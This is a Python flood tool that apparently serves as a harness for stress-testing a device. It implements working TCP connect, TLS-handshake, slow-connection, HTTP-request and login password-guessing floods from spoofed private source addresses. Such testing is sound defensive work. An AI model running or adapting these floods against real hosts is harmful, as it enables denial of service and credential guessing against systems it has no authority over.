"""A flood, as a program of its own: `flooder.py KIND HOST PORT SECONDS RATE FAMILY`.

Owns the sockets of an attacker with thousands of addresses. It does no cryptography of its
own where it can avoid it: one recorded ClientHello serves for every handshake, so that the
device pays and the attacker does not. Bounded in time, rate and open sockets. Prints one
JSON object of counts.

Kinds: `connect` opens and resets; `hello` sends a ClientHello and waits for the device's
work; `silent` opens and says nothing; `requests` and `logins` keep connections after a
handshake and fill them with requests as fast as the device takes them.
"""

import collections
import contextlib
import json
import selectors
import socket
import ssl
import struct
import sys
import threading
import time

MOST_OPEN = 1500
HOLD_SECONDS = 3.0  # a connection that got nothing is given up
SOURCES = 4000
TICK = 0.002
RESET = struct.pack("ii", 1, 0)
CROWD = 48  # kept connections of the request floods: more than the device lets in
SEND_BUFFER = 16 << 10  # what the device does not take soon fills it
BATCH = 64  # requests sent at once on a kept connection


def client_hello() -> bytes:
    """What a client says first; recorded once."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.minimum_version = ssl.TLSVersion.TLSv1_3
    sent = ssl.MemoryBIO()
    half = context.wrap_bio(ssl.MemoryBIO(), sent, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        half.do_handshake()
    return sent.read()


def source(number: int, family: int) -> str:
    """An address of the attacker: of its own IPv4 network, or in an IPv6 /64 of its own."""
    number %= SOURCES
    if family == 4:
        return f"10.77.{number // 250}.{number % 250 + 1}"
    return f"fd77:0:0:{number:x}::1"


class Flood:
    """New connections at a rate; `speaks`: each sends a ClientHello."""

    def __init__(self, host: str, port: int, family: int, *, speaks: bool, holds: bool) -> None:
        self._host, self._port, self._family = host, port, family
        self._kind = socket.AF_INET if family == 4 else socket.AF_INET6
        self._hello = client_hello() if speaks else b""
        self._holds = holds
        self._selector = selectors.DefaultSelector()
        self._open: collections.OrderedDict[socket.socket, float] = collections.OrderedDict()
        self.counts: collections.Counter[str] = collections.Counter()

    def run(self, seconds: float, rate: float) -> None:
        """Offer `rate` connections a second, evenly, for `seconds`."""
        begun = time.monotonic()
        while (passed := time.monotonic() - begun) < seconds:
            due = int(passed * rate) - self.counts["tried"]
            for _ in range(due):
                self._begin()
            for key, events in self._selector.select(TICK if due <= 0 else 0):
                self._serve(key.fileobj, events)  # type: ignore[arg-type]
            self._expire()
        for sock in list(self._open):
            self._end(sock)

    def _begin(self) -> None:
        number = self.counts["tried"]
        self.counts["tried"] += 1
        if len(self._open) >= MOST_OPEN:
            self._end(next(iter(self._open)))
        sock = socket.socket(self._kind, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
        sock.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
        try:
            sock.bind((source(number, self._family), 0))
            sock.connect_ex((self._host, self._port))
        except OSError:
            self.counts["failed"] += 1
            sock.close()
            return
        self._open[sock] = time.monotonic()
        self._selector.register(sock, selectors.EVENT_WRITE)

    def _serve(self, sock: socket.socket, events: int) -> None:
        try:
            if events & selectors.EVENT_WRITE:
                self._established(sock)
            elif sock.recv(65536):
                self.counts["answered"] += 1
                self._end(sock)
            else:
                self.counts["closed"] += 1
                self._end(sock)
        except BlockingIOError:
            return
        except OSError:
            self.counts["reset"] += 1
            self._end(sock)

    def _established(self, sock: socket.socket) -> None:
        self._selector.modify(sock, selectors.EVENT_READ)
        if self._hello:
            sock.send(self._hello)
        else:
            sock.getpeername()
        self.counts["established"] += 1
        if not self._hello and not self._holds:
            self._end(sock)

    def _expire(self) -> None:
        oldest = time.monotonic() - (HOLD_SECONDS * (10 if self._holds else 1))
        while self._open:
            sock, began = next(iter(self._open.items()))
            if began > oldest:
                return
            self.counts["given up"] += 1
            self._end(sock)

    def _end(self, sock: socket.socket) -> None:
        if self._open.pop(sock, None) is not None:
            self._selector.unregister(sock)
            sock.close()


class Crowd:
    """Kept connections of strangers, each always full of requests."""

    def __init__(self, host: str, port: int, family: int, *, logins: bool) -> None:
        self._host, self._port, self._family = host, port, family
        self._logins = logins
        self._context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self._context.check_hostname, self._context.verify_mode = False, ssl.CERT_NONE
        self._members: list[ssl.SSLSocket] = []
        self.counts: collections.Counter[str] = collections.Counter()

    def run(self, seconds: float, rate: float) -> None:
        """For `seconds`; `rate` bounds new connections a second."""
        end = time.monotonic() + seconds
        threading.Thread(target=self._keep_joining, args=(end, rate), daemon=True).start()
        while time.monotonic() < end:
            worked = sum(self._work(member) for member in list(self._members))
            if not worked:
                time.sleep(TICK)
        for member in list(self._members):
            member.close()

    def _keep_joining(self, end: float, rate: float) -> None:
        while time.monotonic() < end:
            if len(self._members) < CROWD:
                self._join()
            time.sleep(1 / rate)

    def _join(self) -> None:
        number = self.counts["tried"]
        self.counts["tried"] += 1
        try:
            raw = socket.create_connection(
                (self._host, self._port),
                timeout=2,
                source_address=(source(number, self._family), 0),
            )
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, SEND_BUFFER)
            member = self._context.wrap_socket(raw, server_hostname="localhost")
        except OSError:
            self.counts["turned away"] += 1
            return
        member.setblocking(False)
        self._members.append(member)
        self.counts["joined"] += 1

    def _work(self, member: ssl.SSLSocket) -> int:
        worked = 0
        try:
            with contextlib.suppress(ssl.SSLWantReadError):
                while data := member.recv(65536):
                    self.counts["answers"] += data.count(b"HTTP/1.1 ")
                    worked = 1
                else:
                    raise ConnectionResetError
            member.send(self._requests())
            self.counts["requests"] += BATCH
            worked = 1
        except ssl.SSLWantWriteError:
            self.counts["full"] += 1  # the device takes no more: the flood is all that it can be
            return worked
        except OSError:
            self._members.remove(member)
            member.close()
            self.counts["ended"] += 1
        return worked

    def _requests(self) -> bytes:
        """A batch; the same until it is sent, as TLS wants it."""
        if not self._logins:
            return b"GET /v1/identity HTTP/1.1\r\nhost: localhost\r\n\r\n" * BATCH
        return b"".join(self._login(number) for number in range(BATCH))

    def _login(self, number: int) -> bytes:
        number += self.counts["requests"]
        body = b'{"name":"owner","password":"flooding guess number %d"}' % number
        return (
            b"POST /v1/login HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n"
            b"content-length: %d\r\n\r\n%s" % (len(body), body)
        )


def main() -> None:
    """Run one flood and print its counts."""
    kind, host, port, seconds, rate, family = sys.argv[1:]
    flood: Flood | Crowd
    if kind in ("requests", "logins"):
        flood = Crowd(host, int(port), int(family), logins=kind == "logins")
    else:
        flood = Flood(host, int(port), int(family), speaks=kind == "hello", holds=kind == "silent")
    print("ready", flush=True)
    flood.run(float(seconds), float(rate))
    print(json.dumps({"seconds": float(seconds), **flood.counts}), flush=True)


if __name__ == "__main__":
    main()
